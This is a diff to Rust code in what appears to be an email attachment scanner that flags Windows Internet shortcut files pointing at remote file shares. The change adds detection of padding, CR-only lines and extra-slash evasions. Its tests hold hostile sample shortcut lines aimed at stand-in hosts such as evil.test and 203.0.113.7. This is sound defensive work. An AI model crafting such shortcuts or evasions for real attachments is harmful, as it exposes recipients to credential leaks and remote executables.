@@ -9,9 +9,10 @@
 //! clients made to share a web page (the training corpus has one, a 2002 ham) point at
 //! `http:` and stay unflagged.
 
-/// Bytes of a shortcut read: the ones Windows writes are a few hundred bytes, and
-/// Windows itself stops reading an INI file long before a megabyte.
-const MAX_READ: usize = 64 * 1024;
+/// Bytes of a shortcut read. The ones Windows writes are a few hundred bytes; a bigger one
+/// is padded to push its target past a reader, and is flagged whatever it says. Below the
+/// bytes an archive entry's head holds, so a padded entry is flagged too.
+const MAX_READ: usize = 32 * 1024;
 
 /// Declared types shortcuts are sent as.
 const SHORTCUT_TYPES: [&str; 4] = [
@@ -27,14 +28,18 @@ const WEB_SCHEMES: [&str; 8] = [
 ];
 
 /// Whether the attachment is an Internet shortcut: by the extension of a name (as the name
-/// checks read it), the declared type, or content opening with the `[InternetShortcut]`
-/// section (or its class id) that Windows reads whatever the file is called.
+/// checks read it), the declared type, or, for a file whose names give no extension (which
+/// Windows then opens by what it declares or holds), content opening with the
+/// `[InternetShortcut]` section or its class id. A `.txt` holding one opens in Notepad.
 pub(super) fn is_shortcut(exts: &[Option<String>], content_type: &str, data: &[u8]) -> bool {
     let named = exts
         .iter()
         .any(|e| matches!(e.as_deref(), Some("url" | "website")));
     if named || SHORTCUT_TYPES.contains(&content_type) {
         return true;
+    }
+    if exts.iter().any(Option::is_some) {
+        return false;
     }
     let head = text_of(&data[..data.len().min(4096)]).to_ascii_lowercase();
     let start = head.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
@@ -46,8 +51,11 @@ pub(super) fn is_shortcut(exts: &[Option<String>], content_type: &str, data: &[u
 /// read: Windows reads `[InternetShortcut]`, and a harmless shortcut holds no such
 /// target anywhere.
 pub(super) fn opens_a_file(data: &[u8]) -> bool {
-    let text = text_of(&data[..data.len().min(MAX_READ)]);
-    text.lines().any(|line| {
+    if data.len() > MAX_READ {
+        return true;
+    }
+    // Lines end at CR or LF alone too, as Windows' and Wine's INI readers end them.
+    text_of(data).split(['\r', '\n']).any(|line| {
         let Some((key, value)) = line.split_once('=') else {
             return false;
         };
@@ -113,15 +121,15 @@ fn on_a_share(path: &str) -> bool {
     if scheme_of(path).as_deref() != Some("file") {
         return false;
     }
+    // Any run of slashes: Windows reads `file:////host/share` as `\\host\share`.
     let after = &path["file:".len()..];
-    let Some(rest) = after
-        .strip_prefix("//")
-        .or_else(|| after.strip_prefix("\\\\"))
-    else {
+    let rest = after.trim_start_matches(['/', '\\']);
+    if after.len() - rest.len() < 2 {
         return false;
-    };
+    }
     let host = rest.split(['/', '\\']).next().unwrap_or_default();
-    !host.is_empty() && !host.eq_ignore_ascii_case("localhost")
+    let drive = host.len() == 2 && host.ends_with([':', '|']);
+    !host.is_empty() && !drive && !host.eq_ignore_ascii_case("localhost")
 }
 
 /// Two slashes of either kind in front: Windows opens `//host/share` as it opens
@@ -160,6 +168,12 @@ mod tests {
         assert!(is_shortcut(&[Some("website".to_string())], "", b""));
         assert!(is_shortcut(&none, "application/x-mswinurl", b""));
         assert!(is_shortcut(&none, "", b"\r\n[InternetShortcut]\r\nURL=x"));
+        assert!(is_shortcut(&[None], "", b"[InternetShortcut]\r\nURL=x"));
+        assert!(!is_shortcut(
+            &[Some("txt".to_string())],
+            "",
+            b"[InternetShortcut]\r\nURL=x"
+        ));
         assert!(is_shortcut(
             &none,
             "",
@@ -204,9 +218,25 @@ mod tests {
             "BASEURL=file://evil.test/x",
             "IconFile=\\\\203.0.113.7\\icons\\a.ico",
             "IconFile=file://evil.test/icons/a.ico",
+            "IconFile=file:////evil.test/s/a.ico",
         ] {
             assert!(opens_a_file(&shortcut(hostile)), "{hostile}");
         }
+    }
+
+    /// Review: lines ended by CR alone, and a shortcut padded past what is read.
+    #[test]
+    fn cr_lines_and_padding_hide_no_target() {
+        assert!(opens_a_file(
+            b"[InternetShortcut]\rURL=file://evil.test/x.exe\r"
+        ));
+        let mut padded = b"[InternetShortcut]\r\n".to_vec();
+        padded.extend(std::iter::repeat_n(b';', MAX_READ));
+        padded.extend_from_slice(b"\r\nURL=file://evil.test/x.exe\r\n");
+        assert!(opens_a_file(&padded));
+        assert!(!opens_a_file(
+            b"[InternetShortcut]\rURL=https://example.test/\r"
+        ));
     }
 
     /// Windows reads a shortcut saved as UTF-16 as well as one in ANSI.
